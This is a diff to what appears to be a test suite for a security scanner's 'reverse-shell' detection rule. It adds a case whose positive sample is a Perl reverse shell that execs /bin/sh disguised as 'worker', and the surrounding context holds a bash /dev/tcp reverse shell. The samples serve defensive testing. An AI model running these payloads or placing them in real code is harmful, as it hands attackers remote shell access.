@@ -109,4 +109,12 @@ describeRuleCases('reverse-shell', [
     positive: 'h=203.0.113.9\nexec 3<>/dev/tcp/$h/9001\nwhile read -r c <&3; do eval "$c" >&3 2>&3; done\n',
     negative: 'branch="$(git rev-parse --abbrev-ref HEAD)"\necho "on $branch"\n',
   },
+  {
+    id: 'SG-RSHELL-006',
+    file: 'scripts/symcache.pl',
+    positive:
+      "use Socket;\nsocket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect($s, sockaddr_in($port, inet_aton($host)))) {\n  open(STDIN, '<&', $s);\n  open(STDOUT, '>&', $s);\n  exec { '/bin/sh' } 'worker', '-i';\n}\n",
+    negative:
+      "use DBI;\nmy $dbh = DBI->connect($dsn, $user, $pass);\nopen(STDOUT, '>&', $log);\nexec('/bin/sh', '-c', $job);\n",
+  },
 ]);
